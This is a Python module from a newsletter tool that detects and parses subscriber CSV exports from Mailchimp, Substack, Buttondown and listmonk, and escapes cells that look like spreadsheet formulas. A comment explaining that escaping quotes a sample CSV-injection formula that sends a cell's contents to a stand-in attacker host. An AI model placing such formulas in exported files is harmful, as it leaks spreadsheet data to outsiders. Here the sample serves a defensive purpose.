"""The subscriber files people actually have, recognised by their header row.

Each format turns one CSV record into a ``ParsedRow`` (address not yet checked) and carries the
exporting service's own statuses over: a Mailchimp export of unsubscribed members imports as
unsubscribed, a Substack reader whose email is disabled as bounced. Columns a format does not
map are kept as attributes, so nothing in the file is lost.

Our own format is what ``newsletter subscribers export`` writes::

    email,name,status,status_reason,created_at,confirmed_at,status_changed_at,attributes

followed by what each reader follows and how they rated papers (``PROFILE_COLUMNS``; how they
are written is in ``profile_columns``)::

    interests,categories,authors,mutes,likes,size,ratings

A value starting with ``=``, ``+``, ``-``, ``@``, a tab, a carriage return or ``'`` is written with
a ``'`` before it, which a spreadsheet takes as "this is text, not a formula"; reading our format
takes one leading ``'`` off every value, so an export imports back exactly.

Only ``email`` is required (also accepted as ``Email Address``, ``E-mail`` or ``E-mail Address``,
the spellings of spreadsheets and form tools); ``attributes`` is a JSON object, and any other
column becomes an attribute of that name.

A service's export is recognised by the columns only that service writes (its *signature*), never
by the spelling of the email column alone: a spreadsheet headed ``Email Address,Name,Status``
is not a Mailchimp export, and read as one its ``Status`` column would be ignored.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from datetime import datetime, timezone
from typing import Any, Callable, NamedTuple, Sequence

from newsletter.errors import SubscriberError
from newsletter.models import SUBSCRIBER_STATUSES
from newsletter.subscribers.profile_columns import PROFILE_COLUMNS, ProfileCells, read_profile_cells

OUR_COLUMNS: tuple[str, ...] = (
    "email", "name", "status", "status_reason", "created_at", "confirmed_at", "status_changed_at", "attributes",
)
# The email column of our format, as spreadsheets and form tools (Google Forms, Excel) spell it;
# the first present is the address, the others are attributes.
OUR_EMAIL_COLUMNS: tuple[str, ...] = ("email", "email address", "e-mail", "e-mail address")
# Columns every Mailchimp audience export (subscribed, unsubscribed, cleaned) writes, whatever the
# audience's merge fields: "Email Address" alone is what any spreadsheet may call its addresses.
MAILCHIMP_SIGNATURE: frozenset[str] = frozenset(
    {"email address", "member_rating", "optin_time", "confirm_time", "last_changed"})


class ParsedRow(NamedTuple):
    """One record's meaning; ``email`` is still the raw text from the file."""

    email: str
    name: str = ""
    status: str = "active"
    status_reason: str = ""
    created_at: datetime | None = None
    confirmed_at: datetime | None = None
    status_changed_at: datetime | None = None
    attributes: dict[str, Any] | None = None
    profile: ProfileCells | None = None   # our format's profile columns, when the row fills any


RowMapper = Callable[[Sequence[str]], ParsedRow]

# A cell starting with one of these is a formula to a spreadsheet (OWASP, "CSV Injection"):
# ``=HYPERLINK("http://evil.example/?leak="&A1,"Click")`` in a name would send the sheet away.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_CELL_ESCAPE = "'"


def escape_cell(text: str) -> str:
    """A value as our export writes it: prefixed with ``'`` when it starts like a formula, or
    with a ``'`` of its own (so that ``unescape_cell`` can undo exactly this and nothing more)."""
    return _CELL_ESCAPE + text if text.startswith(_FORMULA_STARTS + (_CELL_ESCAPE,)) else text


def unescape_cell(text: str) -> str:
    """The value ``escape_cell`` was given: export then import is the identity."""
    return text[1:] if text.startswith(_CELL_ESCAPE) else text


def parse_time(text: str, column: str) -> datetime | None:
    """ISO 8601 and the ``YYYY-MM-DD HH:MM:SS`` of exports; a time without zone is UTC (what
    Mailchimp and Buttondown write)."""
    text = text.strip()
    if not text:
        return None
    try:
        value = datetime.fromisoformat(text)
        return value.replace(tzinfo=timezone.utc) if value.tzinfo is None else value.astimezone(timezone.utc)
    except (ValueError, OverflowError):  # OverflowError: 0001-01-01T00:00+05:00 is before year 1 in UTC
        raise ValueError(f"{column}: not a date and time: {text!r}") from None


def _index(header: Sequence[str]) -> dict[str, int]:
    """Lower-cased, stripped column names to their first position; unnamed columns (a trailing
    comma on the header) are ignored."""
    positions: dict[str, int] = {}
    for position, name in enumerate(header):
        key = name.strip().lower()
        if key and key not in positions:
            positions[key] = position
    return positions


def _getter(positions: dict[str, int], name: str) -> Callable[[Sequence[str]], str]:
    position = positions.get(name)
    if position is None:
        return lambda fields: ""
    return lambda fields: fields[position] if position < len(fields) else ""


def _extras(header: Sequence[str], positions: dict[str, int], mapped: set[str]) -> Callable[[Sequence[str]], dict[str, Any]]:
    """Non-empty values of the columns a format does not map, under their names in the file."""
    extra = [(header[i].strip(), i) for key, i in positions.items() if key not in mapped]
    if not extra:
        return lambda fields: {}

    def collect(fields: Sequence[str]) -> dict[str, Any]:
        found: dict[str, Any] = {}
        for name, i in extra:
            if i < len(fields) and fields[i] != "":
                found[name] = fields[i]
        return found
    return collect


def _json_object(text: str, column: str) -> dict[str, Any]:
    text = text.strip()
    if not text:
        return {}
    try:
        value = json.loads(text)
    except json.JSONDecodeError as exc:
        raise ValueError(f"{column}: not JSON ({exc.msg})") from None
    except RecursionError:
        raise ValueError(f"{column}: JSON nested too deeply") from None
    if not isinstance(value, dict):
        raise ValueError(f"{column}: expected a JSON object, got {type(value).__name__}")
    return value


@dataclass(frozen=True)
class Format:
    """A file format: how to recognise its header and how to read its rows."""

    name: str
    label: str
    matches: Callable[[dict[str, int]], bool]
    mapper: Callable[[Sequence[str], dict[str, int]], RowMapper]
    # Checked when the format is forced with --format: the address, and the column that carries
    # the service's status, so a file of another service (whose bounced readers would read as
    # active) is refused rather than imported wrong. An entry that is a tuple is satisfied by any
    # one of its spellings.
    required: tuple[str | tuple[str, ...], ...]
    # Whether the format reads a generic ``status`` column; forced on a file that has one, a
    # format that does not would silently import its unsubscribed and bounced rows as active.
    reads_status_column: bool = False


# --- ours ---------------------------------------------------------------------------------

def _our_email_column(positions: dict[str, int]) -> str | None:
    return next((c for c in OUR_EMAIL_COLUMNS if c in positions), None)


def _ours(header: Sequence[str], positions: dict[str, int]) -> RowMapper:
    email_column = _our_email_column(positions) or "email"
    email, name, status = (_getter(positions, c) for c in (email_column, "name", "status"))
    mapped = set(OUR_COLUMNS) | set(PROFILE_COLUMNS) | {email_column}
    if "name" not in positions and ("first name" in positions or "last name" in positions):
        # A spreadsheet's First Name / Last Name (Mailchimp's import template, for one) make the name.
        first, last = _getter(positions, "first name"), _getter(positions, "last name")
        name = lambda fields: " ".join(p for p in (first(fields).strip(), last(fields).strip()) if p)  # noqa: E731
        mapped |= {"first name", "last name"}
    reason, created, confirmed, changed, attributes = (
        _getter(positions, c) for c in ("status_reason", "created_at", "confirmed_at", "status_changed_at", "attributes"))
    extras = _extras(header, positions, mapped)
    times = "created_at" in positions or "confirmed_at" in positions or "status_changed_at" in positions
    profile_getters = [(c, _getter(positions, c)) for c in PROFILE_COLUMNS if c in positions]

    def row(fields: Sequence[str]) -> ParsedRow:
        fields = [unescape_cell(field) for field in fields]
        given = status(fields).strip().lower() or "active"
        if given not in SUBSCRIBER_STATUSES:
            raise ValueError(f"status: {given!r} is not one of {', '.join(SUBSCRIBER_STATUSES)}")
        attrs = _json_object(attributes(fields), "attributes") if "attributes" in positions else {}
        more = extras(fields)
        if more:
            attrs = {**attrs, **more}
        profile = read_profile_cells({c: get(fields) for c, get in profile_getters}) if profile_getters else None
        if not times:
            return ParsedRow(email(fields), name(fields), given, reason(fields), None, None, None, attrs, profile)
        return ParsedRow(email(fields), name(fields), given, reason(fields),
                         parse_time(created(fields), "created_at"), parse_time(confirmed(fields), "confirmed_at"),
                         parse_time(changed(fields), "status_changed_at"), attrs, profile)
    return row


# --- Mailchimp: one CSV per audience segment; the segment shows in the header ------------------

def _mailchimp(header: Sequence[str], positions: dict[str, int]) -> RowMapper:
    email, first, last = (_getter(positions, c) for c in ("email address", "first name", "last name"))
    optin, confirm = _getter(positions, "optin_time"), _getter(positions, "confirm_time")
    if "unsub_time" in positions:        # unsubscribed_members_export
        status, changed_col, reason_col = "unsubscribed", "unsub_time", "unsub_reason"
    elif "clean_time" in positions:      # cleaned_members_export: addresses that bounced
        status, changed_col, reason_col = "bounced", "clean_time", ""
    else:                                # subscribed_members_export
        status, changed_col, reason_col = "active", "", ""
    changed = _getter(positions, changed_col) if changed_col else (lambda fields: "")
    reason = _getter(positions, reason_col) if reason_col else (lambda fields: "")
    extras = _extras(header, positions, {"email address", "first name", "last name", "optin_time",
                                         "confirm_time", changed_col, reason_col})

    def row(fields: Sequence[str]) -> ParsedRow:
        full = " ".join(part for part in (first(fields).strip(), last(fields).strip()) if part)
        confirmed = parse_time(confirm(fields), "CONFIRM_TIME")
        created = parse_time(optin(fields), "OPTIN_TIME") or confirmed
        why = reason(fields).strip()
        return ParsedRow(email(fields), full, status,
                         f"mailchimp: {why}" if why else (f"mailchimp export: {status}" if status != "active" else ""),
                         created, confirmed, parse_time(changed(fields), changed_col.upper()), extras(fields))
    return row


# --- Substack: email_disabled means Substack stopped mailing the address ---------------------

def _substack(header: Sequence[str], positions: dict[str, int]) -> RowMapper:
    email, disabled, created = (_getter(positions, c) for c in ("email", "email_disabled", "created_at"))
    extras = _extras(header, positions, {"email", "email_disabled", "created_at"})

    def row(fields: Sequence[str]) -> ParsedRow:
        flag = disabled(fields).strip().lower()
        if flag not in ("", "true", "false"):
            raise ValueError(f"email_disabled: expected true or false, got {flag!r}")
        bounced = flag == "true"
        return ParsedRow(email(fields), "", "bounced" if bounced else "active",
                         "substack: email disabled" if bounced else "",
                         parse_time(created(fields), "created_at"), None, None, extras(fields))
    return row


# --- Buttondown: subscriber_type carries the status ------------------------------------------

BUTTONDOWN_STATUSES: dict[str, str] = {
    "regular": "active", "premium": "active", "gifted": "active", "trialed": "active",
    "churning": "active", "past_due": "active", "unpaid": "active",
    "unactivated": "pending",
    "unsubscribed": "unsubscribed", "removed": "unsubscribed", "spammy": "unsubscribed", "blocked": "unsubscribed",
    "undeliverable": "bounced",
}


def _buttondown(header: Sequence[str], positions: dict[str, int]) -> RowMapper:
    email, kind = _getter(positions, "email"), _getter(positions, "subscriber_type")
    created, subscribed, unsubscribed = (
        _getter(positions, c) for c in ("creation_date", "subscription_date", "unsubscription_date"))
    extras = _extras(header, positions, {"email", "subscriber_type", "creation_date", "subscription_date",
                                         "unsubscription_date"})

    def row(fields: Sequence[str]) -> ParsedRow:
        given = kind(fields).strip().lower() or "regular"
        status = BUTTONDOWN_STATUSES.get(given)
        if status is None:
            raise ValueError(f"subscriber_type: unknown {given!r}")
        confirmed = parse_time(subscribed(fields), "subscription_date")
        changed = parse_time(unsubscribed(fields), "unsubscription_date")
        return ParsedRow(email(fields), "", status,
                         f"buttondown: {given}" if status in ("unsubscribed", "bounced") else "",
                         parse_time(created(fields), "creation_date"),
                         confirmed if status == "active" else None, changed, extras(fields))
    return row


# --- listmonk: import file (email,name,attributes) and subscriber export ---------------------

LISTMONK_STATUSES: dict[str, str] = {"": "active", "enabled": "active", "disabled": "unsubscribed",
                                     "blocklisted": "unsubscribed"}
_LISTMONK_COLUMNS = {"uuid", "email", "name", "attributes", "status", "created_at", "updated_at"}


def _listmonk(header: Sequence[str], positions: dict[str, int]) -> RowMapper:
    email, name, attributes, status, created = (
        _getter(positions, c) for c in ("email", "name", "attributes", "status", "created_at"))
    extras = _extras(header, positions, {"email", "name", "attributes", "status", "created_at", "updated_at"})

    def row(fields: Sequence[str]) -> ParsedRow:
        given = status(fields).strip().lower()
        mapped = LISTMONK_STATUSES.get(given)
        if mapped is None:
            raise ValueError(f"status: unknown listmonk status {given!r}")
        attrs = _json_object(attributes(fields), "attributes")
        more = extras(fields)
        return ParsedRow(email(fields), name(fields), mapped, f"listmonk: {given}" if mapped != "active" else "",
                         parse_time(created(fields), "created_at"), None, None, {**attrs, **more} if more else attrs)
    return row


FORMATS: tuple[Format, ...] = (
    Format("mailchimp", "Mailchimp audience export", lambda p: MAILCHIMP_SIGNATURE <= p.keys(), _mailchimp,
           ("email address",)),
    Format("substack", "Substack subscriber export",
           lambda p: {"email", "active_subscription", "email_disabled"} <= p.keys(), _substack,
           ("email", "email_disabled")),
    Format("buttondown", "Buttondown subscriber export",
           lambda p: {"email", "subscriber_type"} <= p.keys(), _buttondown, ("email", "subscriber_type")),
    Format("listmonk", "listmonk import/export",
           lambda p: "email" in p and "attributes" in p and p.keys() <= _LISTMONK_COLUMNS
           and ("uuid" in p or set(p) == {"email", "name", "attributes"}), _listmonk, ("email",), True),
    Format("ours", "newsletter format", lambda p: _our_email_column(p) is not None, _ours, (OUR_EMAIL_COLUMNS,), True),
)
FORMAT_NAMES: tuple[str, ...] = tuple(f.name for f in FORMATS)


def detect_format(header: Sequence[str], *, where: str) -> Format:
    """The first format whose header test passes; ``SubscriberError`` naming the columns seen."""
    positions = _index(header)
    for fmt in FORMATS:
        if fmt.matches(positions):
            return fmt
    seen = ", ".join(repr(h) for h in header[:8]) or "nothing"
    raise SubscriberError(
        f"no email column in the header (saw {seen}); expected our format (email,name,...) or an export "
        f"of {', '.join(f.label for f in FORMATS[:-1])}", where=where, line=1)


def format_named(name: str, header: Sequence[str], *, where: str) -> Format:
    """The format the user asked for, checked against the header.

    A header that plainly belongs to another service is refused too: read as another format,
    its unsubscribed and bounced members would come in as active.
    """
    fmt = next((f for f in FORMATS if f.name == name), None)
    if fmt is None:
        raise SubscriberError(f"unknown format {name!r}; one of auto, {', '.join(FORMAT_NAMES)}")
    positions = _index(header)
    missing = [c if isinstance(c, str) else c[0] for c in fmt.required
               if not any(alt in positions for alt in ((c,) if isinstance(c, str) else c))]
    if missing:
        raise SubscriberError(f"a {fmt.label} needs the column(s) {', '.join(missing)}", where=where, line=1)
    if "status" in positions and not fmt.reads_status_column:
        raise SubscriberError(f"this file has a status column, which a {fmt.label} does not have; read as one "
                              "its unsubscribed and bounced rows would come in as active (use --format auto or ours)",
                              where=where, line=1)
    recognised = next((f for f in FORMATS[:-1] if f.matches(positions)), None)
    # listmonk's import file (email,name,attributes) has no statuses to lose: ours reads it alike.
    carries_status = recognised is not None and (recognised.name != "listmonk" or "status" in positions)
    if recognised is not None and recognised is not fmt and carries_status:
        raise SubscriberError(f"this header is that of a {recognised.label}; read as a {fmt.label} its statuses "
                              f"would be lost (use --format auto or {recognised.name})", where=where, line=1)
    return fmt


def row_mapper(fmt: Format, header: Sequence[str]) -> RowMapper:
    return fmt.mapper(header, _index(header))
